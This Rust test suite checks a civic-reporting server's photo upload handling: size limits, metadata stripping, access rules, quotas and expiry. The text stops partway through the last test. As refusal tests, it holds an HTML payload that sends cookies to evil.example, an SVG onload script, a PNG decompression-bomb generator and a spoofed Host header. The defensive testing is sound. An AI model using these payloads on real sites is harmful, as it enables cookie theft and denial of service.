//! Issue 14, points 1, 4 to 7 and part of 16: PATCH bodies streamed and
//! bounded, every image re-checked and stripped of its metadata, photos
//! visible only while their report is public, uploads tied to a device with
//! quotas and expiry, the tus `Location` from the public URL.

mod common;

use std::io::Write as _;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine;
use casa_e2e::web::{browser, csrf_of, page};
use casa_shared_model::wire::v1::{SyncRequest, PROTOCOL_VERSION};
use casa_shared_model::wire::{PushItem, ReportPayload};
use casa_shared_model::{DeviceId, ReportId};
use casa_sync_server::platform::uploads::UploadSettings;
use casa_sync_server::RunningServer;
use chrono::Utc;
use common::{on_both_databases, TestDb};
use reqwest::StatusCode;
use serde_json::json;
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Tests that measure the process's memory run alone; the others share.
static MEMORY: tokio::sync::RwLock<()> = tokio::sync::RwLock::const_new(());

const BASILICA: (f64, f64) = (41.1306, 16.8697);

/// A phone: its id and its secret.
#[derive(Clone)]
struct Device {
    id: DeviceId,
    key: String,
}

impl Device {
    fn new() -> Self {
        let secret: [u8; 32] = rand::random();
        Self { id: DeviceId::new(), key: base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(secret) }
    }

    fn on(&self, req: reqwest::RequestBuilder) -> reqwest::RequestBuilder {
        req.header("X-Casa-Device", self.id.to_string()).header("X-Casa-Device-Key", &self.key)
    }

    fn raw_headers(&self) -> String {
        format!("X-Casa-Device: {}\r\nX-Casa-Device-Key: {}\r\n", self.id, self.key)
    }
}

fn b64(bytes: impl AsRef<[u8]>) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn sha_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

async fn create(http: &reqwest::Client, base: &str, device: &Device, len: usize, sha: &str) -> reqwest::Response {
    device
        .on(http.post(format!("{base}/api/v1/uploads/")))
        .header("Tus-Resumable", "1.0.0")
        .header("Upload-Length", len.to_string())
        .header("Upload-Metadata", format!("sha256 {}", b64(sha)))
        .send()
        .await
        .expect("create")
}

async fn created(http: &reqwest::Client, base: &str, device: &Device, len: usize, sha: &str) -> String {
    let res = create(http, base, device, len, sha).await;
    assert_eq!(res.status(), StatusCode::CREATED, "{:?}", res.text().await);
    res.headers()["location"].to_str().expect("location").to_owned()
}

async fn patch(http: &reqwest::Client, url: &str, device: &Device, offset: usize, chunk: &[u8]) -> reqwest::Response {
    device
        .on(http.patch(url))
        .header("Tus-Resumable", "1.0.0")
        .header("Upload-Offset", offset.to_string())
        .header("Content-Type", "application/offset+octet-stream")
        .body(chunk.to_vec())
        .send()
        .await
        .expect("patch")
}

async fn offset_of(http: &reqwest::Client, url: &str, device: &Device) -> Option<u64> {
    let res = device.on(http.head(url)).header("Tus-Resumable", "1.0.0").send().await.expect("head");
    res.headers().get("upload-offset").and_then(|v| v.to_str().ok()).and_then(|v| v.parse().ok())
}

/// Uploads `bytes` whole as one chunk; the answer to the last PATCH.
async fn upload(http: &reqwest::Client, base: &str, device: &Device, bytes: &[u8]) -> reqwest::Response {
    let url = created(http, base, device, bytes.len(), &sha_hex(bytes)).await;
    patch(http, &url, device, 0, bytes).await
}

async fn photo(http: &reqwest::Client, base: &str, sha: &str, device: Option<&Device>) -> reqwest::Response {
    let req = http.get(format!("{base}/api/v1/photos/{sha}"));
    match device {
        Some(d) => d.on(req),
        None => req,
    }
    .send()
    .await
    .expect("photo")
}

fn upload_id(url: &str) -> String {
    url.rsplit('/').next().expect("id").to_owned()
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// The resident set of this process (the server runs in it), in KiB.
fn rss_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("/proc/self/status");
    status.lines().find_map(|l| l.strip_prefix("VmRSS:")).and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok()).expect("VmRSS")
}

/// Samples the resident set every 2 ms until stopped; returns the peak.
struct PeakRss {
    stop: Arc<AtomicBool>,
    peak: Arc<AtomicU64>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl PeakRss {
    fn start() -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let peak = Arc::new(AtomicU64::new(rss_kib()));
        let (s, p) = (stop.clone(), peak.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                p.fetch_max(rss_kib(), Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(2));
            }
        });
        Self { stop, peak, thread: Some(thread) }
    }

    fn finish(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
        self.peak.load(Ordering::Relaxed)
    }
}

/// A PATCH of `total` zero bytes over a raw connection, written 64 KiB at a
/// time while the answer is awaited: the status (if one came) and how many
/// bytes had been written when it came.
async fn raw_patch(server: &RunningServer, url: &str, device: &Device, offset: u64, total: u64) -> (Option<u16>, u64) {
    let path = url.trim_start_matches(&server.url);
    let stream = tokio::net::TcpStream::connect(server.addr).await.expect("connect");
    let (mut read, mut write) = stream.into_split();
    let head = format!(
        "PATCH {path} HTTP/1.1\r\nHost: {}\r\nTus-Resumable: 1.0.0\r\nUpload-Offset: {offset}\r\n\
         Content-Type: application/offset+octet-stream\r\nContent-Length: {total}\r\n{}\r\n",
        server.addr,
        device.raw_headers()
    );
    let sent = Arc::new(AtomicU64::new(0));
    let counter = sent.clone();
    let writer = tokio::spawn(async move {
        if write.write_all(head.as_bytes()).await.is_err() {
            return;
        }
        let zeros = vec![0u8; 64 * 1024];
        let mut left = total;
        while left > 0 {
            let n = left.min(zeros.len() as u64) as usize;
            if write.write_all(&zeros[..n]).await.is_err() {
                return;
            }
            left -= n as u64;
            counter.fetch_add(n as u64, Ordering::Relaxed);
        }
    });
    let mut answer = Vec::new();
    let mut buf = [0u8; 1024];
    let status = loop {
        match tokio::time::timeout(Duration::from_secs(60), read.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => {
                answer.extend_from_slice(&buf[..n]);
                if answer.windows(4).any(|w| w == b"\r\n\r\n") {
                    let line = String::from_utf8_lossy(&answer).lines().next().unwrap_or_default().to_owned();
                    break line.split(' ').nth(1).and_then(|s| s.parse().ok());
                }
            }
            _ => break None,
        }
    };
    let at_answer = sent.load(Ordering::Relaxed);
    writer.abort();
    (status, at_answer)
}

/// A PNG that declares `side` x `side` RGB pixels and carries a few MB of
/// compressed zero rows: small on the wire, gigabytes once decoded.
fn png_bomb(side: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend_from_slice(&crc.sum().to_be_bytes());
    }
    let mut out = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&side.to_be_bytes());
    ihdr.extend_from_slice(&side.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..4 {
        z.write_all(&zeros).expect("compress");
    }
    chunk(&mut out, b"IDAT", &z.finish().expect("compress"));
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A JPEG with what a camera and an editor leave in it: EXIF (make,
/// software, GPS position), XMP and a comment. Upright, so the server only
/// needs to drop those segments.
fn tagged_jpeg(plain: &[u8]) -> Vec<u8> {
    let mut tiff = b"MM\0\x2a\0\0\0\x08".to_vec();
    let make = b"Telefonino\0";
    let software = b"EditorSegreto 2.1\0";
    // IFD0 at 8: 3 entries (2 + 36 + 4 bytes), then the two strings, then the GPS IFD.
    let make_at = 8 + 2 + 3 * 12 + 4;
    let software_at = make_at + make.len();
    let gps_at = (software_at + software.len() + 1) & !1;
    let entry = |tag: u16, kind: u16, count: u32, value: u32| {
        let mut e = tag.to_be_bytes().to_vec();
        e.extend_from_slice(&kind.to_be_bytes());
        e.extend_from_slice(&count.to_be_bytes());
        e.extend_from_slice(&value.to_be_bytes());
        e
    };
    tiff.extend_from_slice(&3u16.to_be_bytes());
    tiff.extend(entry(0x010F, 2, make.len() as u32, make_at as u32));
    tiff.extend(entry(0x0131, 2, software.len() as u32, software_at as u32));
    tiff.extend(entry(0x8825, 4, 1, gps_at as u32));
    tiff.extend_from_slice(&[0, 0, 0, 0]);
    tiff.extend_from_slice(make);
    tiff.extend_from_slice(software);
    tiff.resize(gps_at, 0);
    // GPS IFD: latitude N 41° 7' 50.17" (2 entries), then the three rationals.
    let rationals_at = gps_at + 2 + 2 * 12 + 4;
    tiff.extend_from_slice(&2u16.to_be_bytes());
    tiff.extend(entry(0x0001, 2, 2, u32::from_be_bytes(*b"N\0\0\0")));
    tiff.extend(entry(0x0002, 5, 3, rationals_at as u32));
    tiff.extend_from_slice(&[0, 0, 0, 0]);
    for (num, den) in [(41u32, 1u32), (7, 1), (5017, 100)] {
        tiff.extend_from_slice(&num.to_be_bytes());
        tiff.extend_from_slice(&den.to_be_bytes());
    }
    let mut exif = b"Exif\0\0".to_vec();
    exif.extend_from_slice(&tiff);
    let xmp =
        b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><exif:GPSLatitude>41,7.83N</exif:GPSLatitude></x:xmpmeta>";
    let mut out = plain[..2].to_vec();
    for (marker, payload) in [(0xE1u8, exif.as_slice()), (0xE1, xmp.as_slice()), (0xFE, b"Casa di Mario Rossi".as_slice())] {
        out.extend_from_slice(&[0xFF, marker]);
        out.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        out.extend_from_slice(payload);
    }
    out.extend_from_slice(&plain[2..]);
    out
}

/// The markers of a JPEG's segments up to its first scan.
fn markers(jpeg: &[u8]) -> Vec<u8> {
    let mut found = Vec::new();
    let mut i = 2;
    while i + 4 <= jpeg.len() && jpeg[i] == 0xFF {
        let marker = jpeg[i + 1];
        found.push(marker);
        if marker == 0xDA {
            break;
        }
        i += 2 + usize::from(u16::from_be_bytes([jpeg[i + 2], jpeg[i + 3]]));
    }
    found
}

fn report_with(photos: &[&str]) -> ReportPayload {
    ReportPayload {
        id: ReportId::new(),
        category: "road_damage".into(),
        description: "Buca profonda davanti alla Basilica di San Nicola".into(),
        lat: BASILICA.0,
        lon: BASILICA.1,
        accuracy_m: 6.0,
        captured_at: Utc::now(),
        photos: photos.iter().map(|p| (*p).to_owned()).collect(),
    }
}

async fn file_report(http: &reqwest::Client, base: &str, device: &Device, report: &ReportPayload) {
    let request = SyncRequest {
        protocol: PROTOCOL_VERSION,
        device_id: device.id,
        cursor: None,
        items: vec![PushItem::Report(report.clone())],
        nearby: None,
        petitions: None,
    };
    let res = device.on(http.post(format!("{base}/api/v1/sync"))).json(&request).send().await.expect("sync");
    assert_eq!(res.status(), StatusCode::OK, "{:?}", res.text().await);
}

async fn set_status(http: &reqwest::Client, base: &str, staff: &(String, String), id: ReportId, body: serde_json::Value) {
    let res = http
        .post(format!("{base}/api/v1/admin/reports/{id}/status"))
        .basic_auth(&staff.0, Some(&staff.1))
        .json(&body)
        .send()
        .await
        .expect("status");
    assert_eq!(res.status(), StatusCode::OK, "{:?}", res.text().await);
}

async fn a_patch_body_longer_than_its_upload_is_refused_at_once_without_being_held_in_memory(db: &TestDb) {
    let _alone = MEMORY.write().await;
    let server = RunningServer::start(db.url(), db.data_dir()).await.expect("start");
    let http = reqwest::Client::new();
    let device = Device::new();
    let url = created(&http, &server.url, &device, 10, &"a".repeat(64)).await;
    let data = server.state.uploads_dir().join(upload_id(&url));

    let total = 96 * 1024 * 1024;
    let before = rss_kib();
    let peak = PeakRss::start();
    let started = Instant::now();
    let (status, sent) = raw_patch(&server, &url, &device, 0, total).await;
    let elapsed = started.elapsed();
    let grown_mib = (peak.finish().saturating_sub(before)) / 1024;

    assert_eq!(status, Some(413), "refused as too long");
    assert!(sent < total / 2, "answered before the body was read: {sent} of {total} bytes sent");
    assert!(elapsed < Duration::from_secs(10), "answered quickly: {elapsed:?}");
    assert!(grown_mib < 24, "the server grew by {grown_mib} MiB for a {} MiB body", total >> 20);
    let kept = std::fs::metadata(&data).map(|m| m.len()).unwrap_or(0);
    assert!(kept <= 10, "nothing past the declared length is kept: {kept} bytes");
    assert_eq!(offset_of(&http, &url, &device).await, Some(0), "the refused chunk is not counted");
    drop(http);
    server.stop().await;
}
on_both_databases!(
    a_patch_body_longer_than_its_upload_is_refused_at_once_without_being_held_in_memory,
    super::a_patch_body_longer_than_its_upload_is_refused_at_once_without_being_held_in_memory
);

async fn a_body_cut_short_keeps_what_arrived_and_too_many_patches_at_once_wait_with_503(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = RunningServer::start(db.url(), db.data_dir()).await.expect("start");
    server.state.set_upload_settings(UploadSettings { uploads_in_flight: 1, ..UploadSettings::default() });
    let http = reqwest::Client::new();
    let device = Device::new();
    let url = created(&http, &server.url, &device, 200_000, &"b".repeat(64)).await;

    // A PATCH that sends 30,000 of its 200,000 bytes and then stalls holds the only slot...
    let path = url.trim_start_matches(&server.url).to_owned();
    let mut slow = tokio::net::TcpStream::connect(server.addr).await.expect("connect");
    let head = format!(
        "PATCH {path} HTTP/1.1\r\nHost: {}\r\nTus-Resumable: 1.0.0\r\nUpload-Offset: 0\r\n\
         Content-Type: application/offset+octet-stream\r\nContent-Length: 200000\r\n{}\r\n",
        server.addr,
        device.raw_headers()
    );
    slow.write_all(head.as_bytes()).await.expect("head");
    slow.write_all(&[7u8; 30_000]).await.expect("part");
    tokio::time::sleep(Duration::from_millis(300)).await;

    // ...so another is turned away, with when to come back.
    let other = created(&http, &server.url, &device, 10, &"c".repeat(64)).await;
    let res = patch(&http, &other, &device, 0, b"0123456789").await;
    assert_eq!(res.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert!(res.headers().contains_key("retry-after"), "{:?}", res.headers());
    assert_eq!(res.headers()["tus-resumable"], "1.0.0");
    let body: serde_json::Value = res.json().await.expect("json");
    assert_eq!(body["code"], "uploads_busy");

    // The connection drops: the 30,000 bytes that arrived are kept, to resume from.
    drop(slow);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut offset = offset_of(&http, &url, &device).await;
    while offset != Some(30_000) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
        offset = offset_of(&http, &url, &device).await;
    }
    assert_eq!(offset, Some(30_000));
    // And the slot is free again (as soon as that request has ended).
    let mut status = patch(&http, &other, &device, 0, b"01234").await.status();
    while status == StatusCode::SERVICE_UNAVAILABLE && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
        status = patch(&http, &other, &device, 0, b"01234").await.status();
    }
    assert_eq!(status, StatusCode::NO_CONTENT);
    drop(http);
    server.stop().await;
}
on_both_databases!(
    a_body_cut_short_keeps_what_arrived_and_too_many_patches_at_once_wait_with_503,
    super::a_body_cut_short_keeps_what_arrived_and_too_many_patches_at_once_wait_with_503
);

async fn the_upload_location_comes_from_the_public_url_not_from_the_host_header(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = RunningServer::start(db.url(), db.data_dir()).await.expect("start");
    let http = reqwest::Client::new();
    let device = Device::new();
    let res = device
        .on(http.post(format!("{}/api/v1/uploads/", server.url)))
        .header("Host", "evil.example")
        .header("Tus-Resumable", "1.0.0")
        .header("Upload-Length", "10")
        .header("Upload-Metadata", format!("sha256 {}", b64("d".repeat(64))))
        .send()
        .await
        .expect("create");
    assert_eq!(res.status(), StatusCode::CREATED);
    let location = res.headers()["location"].to_str().expect("location");
    assert!(location.starts_with(&format!("{}/api/v1/uploads/", server.state.public_url())), "{location}");
    assert!(!location.contains("evil.example"), "{location}");
    drop(http);
    server.stop().await;
}
on_both_databases!(
    the_upload_location_comes_from_the_public_url_not_from_the_host_header,
    super::the_upload_location_comes_from_the_public_url_not_from_the_host_header
);

async fn an_uploaded_photo_comes_back_without_its_gps_camera_and_software_metadata(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = RunningServer::start(db.url(), db.data_dir()).await.expect("start");
    let http = reqwest::Client::new();
    let device = Device::new();
    let plain = casa_e2e::detailed_jpeg(640, 480);
    let tagged = tagged_jpeg(&plain);
    assert!(contains(&tagged, b"Telefonino") && contains(&tagged, b"EditorSegreto") && contains(&tagged, b"xmpmeta"));
    let res = upload(&http, &server.url, &device, &tagged).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT, "{:?}", res.text().await);

    // Named by the sha256 the phone declared (its reports refer to it), holding the cleaned copy.
    let declared = sha_hex(&tagged);
    let res = photo(&http, &server.url, &declared, Some(&device)).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "image/jpeg");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    let served = res.bytes().await.expect("bytes");
    for secret in [b"Telefonino".as_slice(), b"EditorSegreto", b"xmpmeta", b"GPSLatitude", b"Exif", b"Mario Rossi"] {
        assert!(!contains(&served, secret), "{} is still in the photo", String::from_utf8_lossy(secret));
    }
    assert!(!markers(&served).iter().any(|m| (0xE1..=0xEF).contains(m) || *m == 0xFE), "no APPn or comment: {:x?}", markers(&served));
    assert_eq!(served.as_ref(), plain.as_slice(), "the pixels' compressed data is untouched");
    let stored =
        std::fs::read(server.state.photos().path(&casa_shared_model::report::PhotoRef::parse(&declared).expect("sha"))).expect("stored");
    assert_eq!(stored, plain, "what is kept on disk is the cleaned copy");
    drop(http);
    server.stop().await;
}
on_both_databases!(
    an_uploaded_photo_comes_back_without_its_gps_camera_and_software_metadata,
    super::an_uploaded_photo_comes_back_without_its_gps_camera_and_software_metadata
);

async fn html_and_svg_uploads_are_refused_and_never_served(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = RunningServer::start(db.url(), db.data_dir()).await.expect("start");
    let http = reqwest::Client::new();
    let device = Device::new();
    for bytes in [
        b"<!doctype html><html><script>document.location='https://evil.example/'+document.cookie</script></html>".as_slice(),
        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    ] {
        let sha = sha_hex(bytes);
        let url = created(&http, &server.url, &device, bytes.len(), &sha).await;
        let res = patch(&http, &url, &device, 0, bytes).await;
        assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
        assert_eq!(res.headers()["tus-resumable"], "1.0.0");
        let body: serde_json::Value = res.json().await.expect("json");
        assert_eq!(body["code"], "not_an_image");
        assert_eq!(photo(&http, &server.url, &sha, Some(&device)).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(photo(&http, &server.url, &sha, None).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(offset_of(&http, &url, &device).await, None, "the refused upload is gone");
        assert!(!server.state.uploads_dir().join(upload_id(&url)).exists());
    }
    drop(http);
    server.stop().await;
}
on_both_databases!(html_and_svg_uploads_are_refused_and_never_served, super::html_and_svg_uploads_are_refused_and_never_served);

async fn a_png_bomb_is_refused_quickly_as_an_upload_and_as_an_office_photo_without_the_memory_it_declares(db: &TestDb) {
    let _alone = MEMORY.write().await;
    let server = common::server_with_boundaries(db).await;
    let base = server.url.clone();
    let http = reqwest::Client::new();
    let bomb = png_bomb(50_000);
    assert!(bomb.len() < 512 * 1024, "a small file: {} bytes", bomb.len());

    let before = rss_kib();
    let peak = PeakRss::start();
    let started = Instant::now();
    let device = Device::new();
    let res = upload(&http, &base, &device, &bomb).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: serde_json::Value = res.json().await.expect("json");
    assert_eq!(body["code"], "image_too_large");
    assert_eq!(photo(&http, &base, &sha_hex(&bomb), Some(&device)).await.status(), StatusCode::NOT_FOUND);
    let upload_took = started.elapsed();

    // The office's photo of the work goes through the same check.
    let staff = common::add_staff(&server, "mod@comune.bari.it", "moderator", &["072006"]).await;
    let (operator, password) = common::add_operator(&server, "lavori@comune.bari.it", &["072006"], "lavori_pubblici").await;
    let report = report_with(&[]);
    file_report(&http, &base, &device, &report).await;
    set_status(&http, &base, &staff, report.id, json!({"status": "published"})).await;
    let ops = browser();
    casa_e2e::web::log_in(&ops, &base, &operator, &password).await;
    let (_, html) = page(&ops, format!("{base}/dashboard/reports/{}", report.id)).await;
    let boundary = "----casa-bomb";
    let mut form = Vec::new();
    for (name, value) in [("csrf", csrf_of(&html)), ("action", "in_progress".into()), ("note", "Squadra inviata".into())] {
        form.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n").as_bytes());
    }
    form.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"lavoro.png\"\r\nContent-Type: image/png\r\n\r\n"
        )
        .as_bytes(),
    );
    form.extend_from_slice(&bomb);
    form.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let started = Instant::now();
    let res = ops
        .post(format!("{base}/dashboard/reports/{}/work", report.id))
        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
        .body(form)
        .send()
        .await
        .expect("work form");
    let work_took = started.elapsed();
    let grown_mib = (peak.finish().saturating_sub(before)) / 1024;
    assert_eq!(res.status(), StatusCode::BAD_REQUEST, "the bomb is refused");
    assert!(res.text().await.expect("page").contains("troppo grande"), "as too large");
    let stored = server.state.store().report(&report.id).await.expect("store").expect("report");
    assert_eq!(stored.status, casa_shared_model::ReportStatus::Published, "and the change with it");
    assert!(upload_took < Duration::from_secs(10) && work_took < Duration::from_secs(10), "quickly: {upload_took:?}, {work_took:?}");
    assert!(grown_mib < 64, "memory grew by {grown_mib} MiB for a {} KB file", bomb.len() / 1024);
    drop(http);
    server.stop().await;
}
on_both_databases!(
    a_png_bomb_is_refused_quickly_as_an_upload_and_as_an_office_photo_without_the_memory_it_declares,
    super::a_png_bomb_is_refused_quickly_as_an_upload_and_as_an_office_photo_without_the_memory_it_declares
);

async fn a_photo_is_public_only_while_its_report_is_and_otherwise_only_for_its_device_and_the_comunes_staff(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = common::server_with_boundaries(db).await;
    let base = server.url.clone();
    let http = reqwest::Client::new();
    let citizen = Device::new();
    let stranger = Device::new();
    let bari = common::add_staff(&server, "mod@comune.bari.it", "moderator", &["072006"]).await;
    let monopoli = common::add_staff(&server, "mod@comune.monopoli.ba.it", "moderator", &["072030"]).await;

    let first = casa_e2e::detailed_jpeg(320, 240);
    let second = casa_e2e::detailed_jpeg(240, 320);
    for bytes in [&first, &second] {
        assert_eq!(upload(&http, &base, &citizen, bytes).await.status(), StatusCode::NO_CONTENT);
    }
    let (a, b) = (sha_hex(&first), sha_hex(&second));

    // Uploaded, in no report yet: only the phone that sent it (its HEAD check works).
    let head = citizen.on(http.head(format!("{base}/api/v1/photos/{a}"))).send().await.expect("head");
    assert_eq!(head.status(), StatusCode::OK);
    assert_eq!(head.headers()["cache-control"], "private, no-store");
    assert_eq!(http.head(format!("{base}/api/v1/photos/{a}")).send().await.expect("head").status(), StatusCode::NOT_FOUND);
    assert_eq!(photo(&http, &base, &a, Some(&stranger)).await.status(), StatusCode::NOT_FOUND);

    // In moderation: the citizen's phone and Bari's staff, nobody else.
    let shown = report_with(&[&a]);
    let hidden = report_with(&[&b]);
    file_report(&http, &base, &citizen, &shown).await;
    file_report(&http, &base, &citizen, &hidden).await;
    let basic = |who: &(String, String)| http.get(format!("{base}/api/v1/photos/{a}")).basic_auth(&who.0, Some(&who.1));
    assert_eq!(photo(&http, &base, &a, None).await.status(), StatusCode::NOT_FOUND);
    assert_eq!(photo(&http, &base, &a, Some(&stranger)).await.status(), StatusCode::NOT_FOUND);
    assert_eq!(photo(&http, &base, &a, Some(&citizen)).await.status(), StatusCode::OK);
    let res = basic(&bari).send().await.expect("bari");
    assert_eq!((res.status(), res.headers()["cache-control"].to_str().expect("cc")), (StatusCode::OK, "private, no-store"));
    assert_eq!(basic(&monopoli).send().await.expect("monopoli").status(), StatusCode::NOT_FOUND, "another Comune's staff");
    assert_eq!(basic(&(bari.0.clone(), "wrong".into())).send().await.expect("wrong").status(), StatusCode::UNAUTHORIZED);
    // The dashboard shows it under its own path, where the session cookie goes.
    let moderator = browser();
    casa_e2e::web::log_in(&moderator, &base, &bari.0, &bari.1).await;
    assert_eq!(moderator.get(format!("{base}/dashboard/photos/{a}")).send().await.expect("dash").status(), StatusCode::OK);
    assert_eq!(http.get(format!("{base}/dashboard/photos/{a}")).send().await.expect("anon").status(), StatusCode::NOT_FOUND);

    // Published: everyone, cacheable. Rejected: back to the phone and the staff.
    set_status(&http, &base, &bari, shown.id, json!({"status": "published"})).await;
    set_status(&http, &base, &bari, hidden.id, json!({"status": "rejected", "reason": "Contiene dati personali di altri"})).await;
    let res = photo(&http, &base, &a, None).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["cache-control"], "public, max-age=3600");
    assert_eq!(res.headers()["content-type"], "image/jpeg");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    assert_eq!(res.bytes().await.expect("bytes").as_ref(), first.as_slice());
    assert_eq!(photo(&http, &base, &b, None).await.status(), StatusCode::NOT_FOUND, "a rejected report's photo");
    assert_eq!(photo(&http, &base, &b, Some(&stranger)).await.status(), StatusCode::NOT_FOUND);
    let res = photo(&http, &base, &b, Some(&citizen)).await;
    assert_eq!((res.status(), res.headers()["cache-control"].to_str().expect("cc")), (StatusCode::OK, "private, no-store"));
    let res = http.get(format!("{base}/api/v1/photos/{b}")).basic_auth(&bari.0, Some(&bari.1)).send().await.expect("staff");
    assert_eq!(res.status(), StatusCode::OK);
    drop(http);
    server.stop().await;
}
on_both_databases!(
    a_photo_is_public_only_while_its_report_is_and_otherwise_only_for_its_device_and_the_comunes_staff,
    super::a_photo_is_public_only_while_its_report_is_and_otherwise_only_for_its_device_and_the_comunes_staff
);

async fn uploads_belong_to_a_device_which_may_start_so_many_an_hour_and_keep_so_many_unfinished(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = RunningServer::start(db.url(), db.data_dir()).await.expect("start");
    server.state.set_upload_settings(UploadSettings {
        uploads_per_device_per_hour: 3,
        uploads_open_per_device: 2,
        ..UploadSettings::default()
    });
    let http = reqwest::Client::new();
    let base = server.url.clone();
    let (phone, other) = (Device::new(), Device::new());

    // Without a device, no upload.
    let res = http
        .post(format!("{base}/api/v1/uploads/"))
        .header("Tus-Resumable", "1.0.0")
        .header("Upload-Length", "10")
        .header("Upload-Metadata", format!("sha256 {}", b64("e".repeat(64))))
        .send()
        .await
        .expect("anonymous");
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);

    let first = created(&http, &base, &phone, 10, &"e".repeat(64)).await;
    let second = created(&http, &base, &phone, 10, &"f".repeat(64)).await;
    // Another device cannot see, write or delete them.
    assert_eq!(other.on(http.head(&first)).header("Tus-Resumable", "1.0.0").send().await.expect("head").status(), StatusCode::NOT_FOUND);
    assert_eq!(patch(&http, &first, &other, 0, b"0123456789").await.status(), StatusCode::NOT_FOUND);
    let res = other.on(http.delete(&first)).header("Tus-Resumable", "1.0.0").send().await.expect("delete");
    assert_eq!(res.status(), StatusCode::NOT_FOUND);

    // Two open at once at most: a third ends the oldest (a phone that lost a creation's answer is not locked out).
    let third = created(&http, &base, &phone, 10, &"0".repeat(64)).await;
    assert_eq!(offset_of(&http, &first, &phone).await, None, "the oldest unfinished upload was ended");
    assert!(!server.state.uploads_dir().join(upload_id(&first)).exists());
    assert_eq!(offset_of(&http, &second, &phone).await, Some(0));
    let res = phone.on(http.delete(&third)).header("Tus-Resumable", "1.0.0").send().await.expect("delete");
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    // Three an hour at most; the other phone is not held back.
    let res = create(&http, &base, &phone, 10, &"2".repeat(64)).await;
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: i64 = res.headers()["retry-after"].to_str().expect("retry-after").parse().expect("seconds");
    assert!((3000..=3600).contains(&wait), "until the first of the hour's uploads is an hour old: {wait}");
    assert_eq!(res.json::<serde_json::Value>().await.expect("json")["code"], "upload_quota_exceeded");
    created(&http, &base, &other, 10, &"3".repeat(64)).await;
    drop(http);
    server.stop().await;
}
on_both_databases!(
    uploads_belong_to_a_device_which_may_start_so_many_an_hour_and_keep_so_many_unfinished,
    super::uploads_belong_to_a_device_which_may_start_so_many_an_hour_and_keep_so_many_unfinished
);

async fn unfinished_uploads_and_photos_no_report_uses_expire(db: &TestDb) {
    let _shared = MEMORY.read().await;
    let server = common::server_with_boundaries(db).await;
    let base = server.url.clone();
    let http = reqwest::Client::new();
    let device = Device::new();
    let unfinished = created(&http, &base, &device, 100, &"9".repeat(64)).await;
    assert_eq!(patch(&http, &unfinished, &device, 0, &[1u8; 40]).await.status(), StatusCode::NO_CONTENT);
    let (unused, used) = (casa_e2e::detailed_jpeg(200, 100), casa_e2e::detailed_jpeg(100, 200));
    for bytes in [&unused, &used] {
        assert_eq!(upload(&http, &base, &device, bytes).await.status(), StatusCode::NO_CONTENT);
    }
    file_report(&http, &base, &device, &report_with(&[&sha_hex(&used)])).await;

    // A day later nothing expired yet but the unfinished upload...
    let swept = casa_sync_server::platform::uploads::sweep(&server.state, Utc::now() + chrono::Duration::hours(25)).await.expect("sweep");
    assert_eq!(swept.photos, 0);
    assert!(swept.uploads >= 1);
